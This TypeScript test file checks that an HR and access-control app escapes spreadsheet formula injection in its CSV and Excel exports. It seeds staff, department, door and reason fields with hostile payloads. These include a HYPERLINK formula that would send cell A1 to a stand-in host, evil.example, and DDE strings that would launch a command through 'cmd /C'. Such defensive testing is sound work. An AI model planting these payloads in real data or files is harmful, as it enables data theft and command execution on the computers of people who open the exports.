import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertReader } from "../../src/access/reader-repository";
import { writeBookXlsx } from "../../src/attendance-reports/book-xlsx";
import type { MonthReport } from "../../src/attendance-reports/month-report";
import { createMonthReport } from "../../src/attendance-reports/month-report.fixture";
import { defaultPayrollLayout, writePayrollFile } from "../../src/attendance-reports/payroll-file";
import { buildApp } from "../../src/http/app";
import { insertDepartment } from "../../src/org/department-repository";
import { createStaff } from "../../src/org/staff-use-cases";
import { type Call, okJson, signInWithRoles } from "../access-api";
import { describeEachDatabase } from "../databases";
import { ingestAsReader } from "../ingest-as-reader";

// Staff numbers may only hold letters, digits and hyphens, and may still start with one.
const hostileStaffNumber = "-2-3";

/** Text that a spreadsheet would run as a formula or DDE call if a cell began with it. */
const payloads = {
  equals: '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1+cmd|' /C calc'!A0",
  carriageReturn: "\r=1+1+cmd|' /C calc'!A0",
} as const;
const payloadList: string[] = Object.values(payloads);

const formulaStart = /^[=+\-@\t\r]/;
// Figures the files carry on purpose (a negative number is not a formula to escape).
const plainNumber = /^-?\d+(?:\.\d+)?$/;

function cellsOf(table: readonly (readonly string[])[]): string[] {
  return table.flat();
}

/** Every cell is inert, and each payload that went in comes out with the quote that keeps it text. */
function expectNeutralised(cells: readonly string[], expected: readonly string[]) {
  const live = cells.filter((cell) => formulaStart.test(cell) && !plainNumber.test(cell));
  expect(live).toEqual([]);
  // XML turns a stored CR into LF, so an Excel cell is compared with its line ends unified.
  const unified = cells.map((cell) => cell.replaceAll("\r", "\n"));
  for (const payload of expected) {
    expect(
      unified.some((cell) => cell.startsWith(`'${payload}`.replaceAll("\r", "\n"))),
      `${JSON.stringify(payload)} is missing`,
    ).toBe(true);
  }
}

function readCsv(body: Buffer | string): string[][] {
  const rows: unknown = parse(body, { bom: true, relax_column_count: true });
  if (!Array.isArray(rows)) throw new Error("not a CSV table");
  return rows.map((row: unknown) => (Array.isArray(row) ? row.map(String) : []));
}

async function readXlsxCells(body: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(body).buffer);
  const cells: string[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) throw new Error(`formula cell at ${cell.address}`);
        cells.push(cell.text);
      });
    });
  }
  return cells;
}

describeEachDatabase("exports neutralise formula-like text", (context) => {
  let app: FastifyInstance;
  let admin: Call;

  beforeAll(async () => {
    const { deps } = context();
    deps.clock.set("2026-04-10T00:00:00.000Z");
    app = await buildApp(deps);
    admin = await signInWithRoles(app, deps, "export-admin", ["staff", "hr", "securityAdmin", "auditor"]);
    // Names reach the database from the staff import too, so they go in as stored, not through the form.
    const department = await insertDepartment(deps.db, {
      code: "8800",
      name: payloads.equals,
      kind: "department",
      parentId: null,
      validFrom: "2020-04-01",
      validTo: null,
    });
    const staffIds: number[] = [];
    for (const [index, payload] of payloadList.entries()) {
      const staff = await createStaff(deps, "test", {
        staffNumber: `880${index}`,
        familyName: payload,
        givenName: payloads.at,
        familyNameKana: "テスト",
        givenNameKana: "テスト",
        employmentType: "regular",
        startDate: "2020-04-01",
        endDate: null,
        email: null,
        phone: payloads.minus,
        departmentId: department.id,
        positionId: null,
      });
      staffIds.push(staff.id);
    }
    const area = okJson(await admin("POST", "/api/access/areas", { name: payloads.plus })).id;
    const inner = okJson(await admin("POST", "/api/access/areas", { name: payloads.at, parentId: area })).id;
    const door = okJson(
      await admin("POST", "/api/access/doors", { name: payloads.equals, fromAreaId: area, toAreaId: inner }),
    ).id;
    const reader = await insertReader(deps.db, {
      name: payloads.minus,
      kind: "door",
      doorId: door,
      side: "entry",
    });
    const events = staffIds.map((staffId, index) => ({
      eventId: `escape-${index}`,
      occurredAt: `2026-04-02T0${index}:00:00.000Z`,
      kind: "decision",
      credentialKey: `uid:0E5C${index}`,
      holderId: `staff:${staffId}`,
      granted: true,
      reason: "granted",
      assurance: "tap",
    }));
    okJson(await ingestAsReader(deps, reader.id, events));
  });
  afterAll(() => app.close());

  it("escapes staff and department names in the staff CSV", async () => {
    const response = await admin("GET", "/api/staff-export?format=csv");
    expect(response.statusCode).toBe(200);
    expectNeutralised(cellsOf(readCsv(response.rawPayload)), payloadList);
  });

  it("escapes staff and department names in the staff Excel file", async () => {
    const response = await admin("GET", "/api/staff-export?format=xlsx");
    expect(response.statusCode).toBe(200);
    expectNeutralised(await readXlsxCells(response.rawPayload), payloadList);
  });

  it("escapes area, door, reader and holder names in the access log CSV", async () => {
    const response = await admin("GET", "/api/access/log/export?month=2026-04&format=csv");
    expect(response.statusCode).toBe(200);
    expectNeutralised(cellsOf(readCsv(response.rawPayload)), payloadList);
  });

  it("escapes area, door, reader and holder names in the access log Excel file", async () => {
    const response = await admin("GET", "/api/access/log/export?month=2026-04&format=xlsx");
    expect(response.statusCode).toBe(200);
    expectNeutralised(await readXlsxCells(response.rawPayload), payloadList);
  });
});

/** The October fixture with every name, department and reason replaced by a payload. */
function hostileReport(): MonthReport {
  const base = createMonthReport({
    "1001": { name: payloads.equals, departmentName: payloads.plus, employmentType: payloads.at },
    "1002": { name: payloads.tab, departmentName: payloads.carriageReturn, staffNumber: hostileStaffNumber },
  });
  return {
    ...base,
    department: { ...base.department, name: payloads.equals },
    people: base.people.map((line) => ({
      ...line,
      month: {
        ...line.month,
        entries: line.month.entries.map((entry) => ({ ...entry, reason: payloads.minus })),
      },
    })),
  };
}

describe("month outputs neutralise formula-like text", () => {
  it("escapes names and a hostile payroll layout header in the payroll CSV, in both encodings", () => {
    const layout = {
      ...defaultPayrollLayout,
      columns: [
        { header: payloads.at, field: "name" as const },
        { header: payloads.plus, field: "departmentName" as const },
        ...defaultPayrollLayout.columns,
      ],
    };
    const utf8 = writePayrollFile(hostileReport(), { ...layout, encoding: "utf8" });
    // Reasons are not part of the payroll file; every other payload is.
    const inPayroll = [...payloadList.filter((payload) => payload !== payloads.minus), hostileStaffNumber];
    expectNeutralised(cellsOf(readCsv(utf8.body)), inPayroll);
    const shiftJis = writePayrollFile(hostileReport(), { ...layout, encoding: "shift_jis" });
    // Every payload is ASCII or kanji, so the Shift_JIS bytes hold the same cells.
    expectNeutralised(cellsOf(readCsv(new TextDecoder("shift_jis").decode(shiftJis.body))), inPayroll);
  });

  it.each(["attendance", "overtimeOrders", "leave"] as const)(
    "escapes names and reasons in the %s book's Excel file",
    async (book) => {
      const cells = await readXlsxCells(await writeBookXlsx(book, hostileReport()));
      // Only the fixture's first person takes leave, so the leave book names only them.
      const expected =
        book === "leave" ? [payloads.equals, payloads.minus] : [payloads.equals, hostileStaffNumber];
      expectNeutralised(cells, expected);
    },
  );

  it("escapes the reasons written into the overtime order book", async () => {
    const cells = await readXlsxCells(await writeBookXlsx("overtimeOrders", hostileReport()));
    expectNeutralised(cells, [payloads.minus]);
  });
});
